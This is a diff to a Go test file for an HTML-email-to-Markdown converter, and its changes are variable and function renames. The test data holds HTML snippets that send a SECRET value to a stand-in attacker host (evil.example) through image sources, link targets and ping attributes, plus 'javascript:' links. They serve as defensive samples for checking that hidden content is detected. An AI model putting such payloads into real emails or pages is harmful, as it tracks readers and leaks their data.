@@ -9,8 +9,8 @@ import (
 	"golang.org/x/net/html"
 )
 
-// plainMails are complete, each as its Markdown shows it.
-var plainMails = map[string]string{
+// completeMails are complete, each as its Markdown shows it.
+var completeMails = map[string]string{
 	"":                        "",
 	"<p>See you at noon.</p>": "See you at noon.",
 	"<!DOCTYPE html>\n<html>\n<head><meta charset=\"utf-8\"></head>\n<body>\n<p>Hi&nbsp;Ann,<br/>it&#39;s on.</p>\n</body></html>": "Hi Ann,\nit's on.",
@@ -24,9 +24,9 @@ var plainMails = map[string]string{
 	`<div dir="ltr">Yes.<div><br></div><div>Ada 👍🏽 &lt;3</div></div>`:                                                                                        "Yes.\n\nAda 👍🏽 <3",
 }
 
-// unplain are documents whose Markdown does not show everything. SECRET marks
+// incompleteDocuments are documents whose Markdown does not show everything. SECRET marks
 // what it lacks.
-var unplain = []string{
+var incompleteDocuments = []string{
 	`<img src="http://evil.example/p.gif?d=SECRET">`, `<img src="http://evil.example/p.gif" alt="SECRET">`, `<img src="data:image/gif;base64,SECRET">`, `<img srcset="SECRET 2x">`, `<img src="cid:SECRET" alt="logo">`,
 	`<a href="http://evil.example/SECRET"></a>`, `<a href="http://evil.example/SECRET"><br></a>`, `<a href="http://evil.example/SECRET"> &nbsp;</a>`, `<a href="javascript:SECRET">a</a>`, `<a href="#SECRET">a</a>`, `<a name="SECRET">a</a>`,
 	`<a href="http://a.example" title="SECRET">a</a>`, `<a href="http://a.example" ping="SECRET">a</a>`, `<a href="http://a.example" href="SECRET">a</a>`, `<a href="http://a.example" HREF="SECRET">a</a>`, `<code><a href="http://a.example/SECRET">a</a></code>`,
@@ -46,7 +46,7 @@ var unplain = []string{
 }
 
 func TestAPlainMailIsWhole(t *testing.T) {
-	for document, want := range plainMails {
+	for document, want := range completeMails {
 		r, whole := HTMLComplete([]byte(document))
 		if !whole || r.Markdown != want {
 			t.Errorf("%s: whole %v, shown\n%q\nwant\n%q", document, whole, r.Markdown, want)
@@ -55,7 +55,7 @@ func TestAPlainMailIsWhole(t *testing.T) {
 }
 
 func TestWhatIsNotAllShownIsNotWhole(t *testing.T) {
-	for _, document := range unplain {
+	for _, document := range incompleteDocuments {
 		for _, around := range []string{"*", "<p>Hi</p>\n*\n<p>Ada</p>", "<table><tr><td>a</td><td>*</td></tr></table>", "<ul><li>*</li></ul>", "<pre>*</pre>", "<b>*", "<blockquote><div>*</div></blockquote>"} {
 			mail := strings.Replace(around, "*", document, 1)
 			if r, whole := HTMLComplete([]byte(mail)); whole {
@@ -70,7 +70,7 @@ func TestWhatIsNotAllShownIsNotWhole(t *testing.T) {
 func TestWhateverIsWovenIntoAPlainMailIsShownOrNotWhole(t *testing.T) {
 	random := rand.New(rand.NewPCG(1, 2))
 	documents := []string{}
-	for document := range plainMails {
+	for document := range completeMails {
 		documents = append(documents, document)
 	}
 	slices.Sort(documents)
@@ -81,12 +81,12 @@ func TestWhateverIsWovenIntoAPlainMailIsShownOrNotWhole(t *testing.T) {
 		for range 1 + random.IntN(2) {
 			pieces := loose
 			if random.IntN(4) == 0 {
-				pieces = unplain
+				pieces = incompleteDocuments
 			}
 			at := random.IntN(len(document) + 1)
 			document = document[:at] + pieces[random.IntN(len(pieces))] + document[at:]
 		}
-		if checkWhole(t, document) {
+		if checkComplete(t, document) {
 			shown++
 		}
 	}
@@ -95,9 +95,9 @@ func TestWhateverIsWovenIntoAPlainMailIsShownOrNotWhole(t *testing.T) {
 	}
 }
 
-// checkWhole checks that a document taken as complete shows each SECRET and
+// checkComplete checks that a document taken as complete shows each SECRET and
 // everything that an independent parser finds.
-func checkWhole(t *testing.T, document string) bool {
+func checkComplete(t *testing.T, document string) bool {
 	t.Helper()
 	r, whole := HTMLComplete([]byte(document))
 	if !whole {
@@ -124,7 +124,7 @@ func checkWhole(t *testing.T, document string) bool {
 		}
 		for _, a := range n.Attr {
 			if a.Key != "href" && a.Key != "start" {
-				if !slices.Contains(fixed[a.Key], a.Val) {
+				if !slices.Contains(fixedValues[a.Key], a.Val) {
 					t.Fatalf("%q: %s=%q is not shown", document, a.Key, a.Val)
 				}
 				continue
@@ -140,15 +140,15 @@ func checkWhole(t *testing.T, document string) bool {
 }
 
 func FuzzWhole(f *testing.F) {
-	for document := range plainMails {
+	for document := range completeMails {
 		f.Add(document)
 	}
-	for _, document := range unplain {
+	for _, document := range incompleteDocuments {
 		f.Add("<p>Hi</p>" + document)
 	}
 	f.Fuzz(func(t *testing.T, document string) {
 		if len(document) < 10_000 && strings.Count(document, "<") < 500 {
-			checkWhole(t, document)
+			checkComplete(t, document)
 		}
 	})
 }
